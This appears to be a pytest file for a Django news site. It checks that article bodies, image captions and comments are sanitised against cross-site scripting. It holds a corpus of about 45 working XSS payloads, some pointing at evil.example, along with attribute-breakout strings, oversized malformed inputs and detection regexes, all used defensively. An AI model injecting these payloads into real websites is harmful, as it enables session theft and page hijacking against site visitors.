"""TRUST.md group A: rich text and XSS in article bodies, captions, credits and comments.

Each row of the table is a parametrised family below; every case renders the real reader page
(or posts the real form) and asserts what a reader's browser would get.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

import django
import pytest
from django.conf import settings

from newsdesk.articles.tests.factories import ArticleFactory
from newsdesk.comments.models import MAX_COMMENT_LENGTH, Comment
from newsdesk.comments.tests.factories import CommentFactory
from newsdesk.core import markup
from newsdesk.core.markup import render_markdown, sanitize_html
from newsdesk.galleries.tests.factories import GalleryFactory, ImageFactory

pytestmark = pytest.mark.django_db

SCRIPT_TAG = re.compile(r"<script\b[^>]*>", re.IGNORECASE)
OWN_SCRIPTS = re.compile(
    r'<script src="/static/newsdesk/site\.js" defer>|<script type="application/ld\+json"[^>]*>'
)
# Any attribute value a browser would treat as code or a foreign document.
DANGEROUS_URL = re.compile(
    r"""(?:href|src|action|formaction|xlink:href|data)\s*=\s*["']?\s*"""
    r"""(?:javascript|vbscript|data|&#)""",
    re.IGNORECASE,
)
EVENT_HANDLER = re.compile(r"<[^>]+\son[a-z]+\s*=", re.IGNORECASE)

# A1-A3 and more: payloads from Django's security docs, the nh3 tests and real-world reports.
XSS_CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "[klick](javascript:alert(1))",
    "[klick](JAVASCRIPT:alert(1))",
    "![bild](javascript:alert(1))",
    "<img src=x onerror=alert(1)>",
    "<img src=/media/a.jpg onload=alert(1)>",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<svg onload=alert(1)><circle r=1></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="behavior:url(x.htc)">x</p>',
    '<p onmouseover="alert(1)">hover</p>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example/"><input name=a></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<object data=x></object><embed src=x>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{display:none}</style>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<a href="https://example.com/" onclick="alert(1)">x</a>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
]


def assert_safe_html(html: str) -> None:
    """No script, handler or dangerous URL left in ``html`` (content only, not our own tags)."""
    scripts = [tag for tag in SCRIPT_TAG.findall(html) if not OWN_SCRIPTS.match(tag)]
    assert scripts == [], scripts
    assert not DANGEROUS_URL.search(html), DANGEROUS_URL.search(html)
    assert not EVENT_HANDLER.search(html), EVENT_HANDLER.search(html)
    for tag in ("<iframe", "<form", "<object", "<embed", "<svg", "<math", "<style", "<base"):
        assert tag not in html.lower(), tag
    assert "style=" not in html.lower()


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_a1_a3_sanitiser_removes_every_payload(payload):
    """A1-A3: scripts, dangerous schemes, handlers and style attributes never survive."""
    assert_safe_html(render_markdown(payload))


@pytest.mark.parametrize("payload", XSS_CORPUS[:20])
def test_a1_a3_reader_page_carries_no_script_from_the_body(client, payload):
    """A1-A3 end to end: the article page a reader gets has only the site's own script."""
    article = ArticleFactory(body=f"Vorher.\n\n{payload}\n\nNachher.")
    response = client.get(article.get_absolute_url())
    assert response.status_code == 200
    html = response.content.decode()
    body = html.split('<div class="article-body prose">', 1)[1].split("</div>", 1)[0]
    assert_safe_html(body)
    assert not [t for t in SCRIPT_TAG.findall(html) if not OWN_SCRIPTS.match(t)]
    assert "Vorher." in body and "Nachher." in body


@pytest.mark.parametrize(
    "field", ["caption", "credit", "alt_text", "title"], ids=lambda f: f"image-{f}"
)
@pytest.mark.parametrize("payload", ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>'])
def test_a1_caption_and_credit_are_escaped_on_the_gallery_and_article(client, field, payload):
    """A1: a caption, credit, alt text or title is text; it never becomes markup."""
    gallery = GalleryFactory(image_count=0)
    image = ImageFactory(**{field: payload})
    gallery.items.create(image=image, position=0)
    article = ArticleFactory(lead_image=image, body=f"[[gallery:{gallery.slug}]]\n")
    for url in (article.get_absolute_url(), gallery.get_absolute_url()):
        response = client.get(url)
        assert response.status_code == 200
        html = response.content.decode()
        assert payload not in html
        assert "<img src=x" not in html
        assert not [t for t in SCRIPT_TAG.findall(html) if not OWN_SCRIPTS.match(t)]


@pytest.mark.parametrize(
    "value",
    ["class1 onmouseover=javascript:func()", "x' onfocus='alert(1)", 'x" autofocus onfocus="a()'],
)
def test_a4_attribute_values_stay_inside_their_quotes(client, value):
    """A4: a value in an attribute cannot add attributes: templates quote every attribute."""
    image = ImageFactory(alt_text=value)
    article = ArticleFactory(lead_image=image)
    html = client.get(article.get_absolute_url()).content.decode()
    images = [attrs for tag, attrs in start_tags(html) if tag == "img"]
    assert images
    assert any(attrs.get("alt") == value for attrs in images)
    for attrs in images:
        assert not {"onmouseover", "onfocus", "autofocus"} & attrs.keys()


class StartTags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def start_tags(html: str) -> list[tuple[str, dict[str, str | None]]]:
    """Every start tag with its attributes, as a browser's tokenizer sees them."""
    parser = StartTags()
    parser.feed(html)
    return parser.tags


def template_files() -> list[Path]:
    roots = [settings.BASE_DIR]
    return sorted(p for root in roots for p in root.rglob("templates/**/*.html"))


@pytest.mark.parametrize("path", template_files(), ids=lambda p: str(p.relative_to(p.parents[2])))
def test_a4_no_template_writes_a_variable_into_an_unquoted_attribute(path):
    """A4: Django's autoescape does not protect ``<a title={{ x }}>``; no template does that."""
    text = path.read_text()
    unquoted = re.findall(r"""\s[\w:-]+=\{\{""", text) + re.findall(r"""\s[\w:-]+=\{%""", text)
    assert unquoted == []


@pytest.mark.parametrize(
    "body, literal",
    [
        ("<b>x</b>", "&lt;b&gt;x&lt;/b&gt;"),
        ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        ('<a href="javascript:alert(1)">klick</a>', "&lt;a href=&quot;javascript:alert(1)"),
        ("{{ request.user }}", "{{ request.user }}"),
    ],
)
def test_a5_comment_markup_is_shown_literally(client, body, literal):
    """A5: comment bodies are plain text, autoescaped, never ``|safe``."""
    comment = CommentFactory(body=body)
    html = client.get(comment.article.get_absolute_url()).content.decode()
    assert literal in html
    if literal != body:
        assert body not in html


@pytest.mark.parametrize(
    "length", [MAX_COMMENT_LENGTH + 1, 70 * 1024], ids=["limit+1", "70KB-cve-2015-3440"]
)
def test_a6_overlong_comment_gets_a_form_error_and_nothing_is_stored(client, length):
    """A6: length is checked in the form before anything is saved, never truncated by the DB."""
    article = ArticleFactory()
    response = client.post(
        f"/kommentare/{article.pk}/",
        {"author_name": "Eva", "author_email": "eva@example.org", "body": "a" * length},
    )
    assert response.status_code == 400
    assert "höchstens" in response.content.decode()
    assert not Comment.objects.exists()


@pytest.mark.parametrize(
    "payload",
    ["<a" * 200_000, "<a href=" * 50_000, "&#" * 100_000, "<" + "b>" * 100_000, "[" * 100_000],
    ids=["a<a<a", "unterminated-attributes", "entities", "nested-bold", "brackets"],
)
def test_a7_huge_malformed_html_renders_safely(payload):
    """A7: megabyte-sized malformed markup finishes and comes out safe (no quadratic blow-up
    in the sanitiser; Django itself is on a release with the CVE-2018-7536/7537,
    CVE-2023-43665 and CVE-2024-45230 fixes)."""
    html = render_markdown(payload)
    assert_safe_html(html)
    assert django.VERSION >= (5, 2, 0)


def test_a7_request_bodies_above_the_limit_get_400_not_500(client):
    """A7: a body over DATA_UPLOAD_MAX_MEMORY_SIZE is refused before any parsing."""
    article = ArticleFactory()
    huge = "<a" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE // 2 + 10)
    response = client.post(
        f"/kommentare/{article.pk}/",
        {"author_name": "Eva", "author_email": "eva@example.org", "body": huge},
    )
    assert response.status_code == 400
    assert "Diese Anfrage können wir nicht verarbeiten." in response.content.decode()
    assert not Comment.objects.exists()


WORD_PASTE = """<html xmlns:o="urn:schemas-microsoft-com:office:office">
<head><meta name=Generator content="Microsoft Word 15"><style>p.MsoNormal{margin:0}</style>
<!--[if gte mso 9]><xml><o:OfficeDocumentSettings/></xml><![endif]--></head>
<body lang=DE style='tab-interval:35.4pt'>
<p class=MsoNormal style='mso-margin-top-alt:auto'><b><span style='font-size:12pt'>Akku</span></b>
hält zwei Tage.<o:p></o:p></p>
<iframe src="https://www.youtube.com/embed/abc"></iframe>
<form action="https://evil.example/"><input name=q value="Suche"><button>Los</button></form>
<object data="flash.swf"><param name=movie value="flash.swf"></object>
</body></html>"""
GOOGLE_DOCS_PASTE = (
    '<meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-1a2b">'
    '<p dir="ltr" style="line-height:1.38"><span style="font-size:11pt;color:#000000">'
    "Preis: 699 Euro</span></p></b><style>.x{}</style>"
    '<iframe src="https://docs.google.com/x"></iframe>'
)


@pytest.mark.parametrize(
    "pasted, kept",
    [(WORD_PASTE, ["Akku", "hält zwei Tage."]), (GOOGLE_DOCS_PASTE, ["Preis: 699 Euro"])],
    ids=["word", "google-docs"],
)
def test_a8_pasted_office_html_loses_frames_forms_styles_and_objects(pasted, kept):
    """A8: the prose of a paste survives; its iframes, forms, styles and objects do not.
    Embeds come only from ``[[video:…]]`` blocks, never from a raw iframe."""
    html = render_markdown(pasted)
    for text in kept:
        assert text in html
    assert_safe_html(html)
    for leftover in ("mso-", "MsoNormal", "<o:p", "<meta", "<input", "flash.swf", "Suche"):
        assert leftover not in html
    assert "youtube.com" not in html


@pytest.mark.parametrize("payload", [*XSS_CORPUS, WORD_PASTE, GOOGLE_DOCS_PASTE])
def test_a9_sanitiser_is_idempotent(payload):
    """A9: clean(clean(x)) == clean(x) for every payload."""
    once = sanitize_html(payload)
    assert sanitize_html(once) == once
    rendered = render_markdown(payload)
    assert sanitize_html(rendered) == rendered


def test_a9_bodies_are_sanitised_at_render_so_a_tighter_allow_list_applies_at_once(
    client, monkeypatch
):
    """A9: stored bodies are Markdown; HTML is made (and cleaned) when rendered, so removing a
    tag from the allow-list takes effect for every stored article without a migration."""
    article = ArticleFactory(body="<table><tr><td>Zelle</td></tr></table>\n")
    assert "<table>" in client.get(article.get_absolute_url()).content.decode()
    monkeypatch.setattr(markup, "ALLOWED_TAGS", markup.ALLOWED_TAGS - {"table", "tr", "td"})
    render_markdown.cache_clear()
    try:
        html = client.get(article.get_absolute_url()).content.decode()
    finally:
        render_markdown.cache_clear()
    assert "<table>" not in html
    assert "Zelle" in html
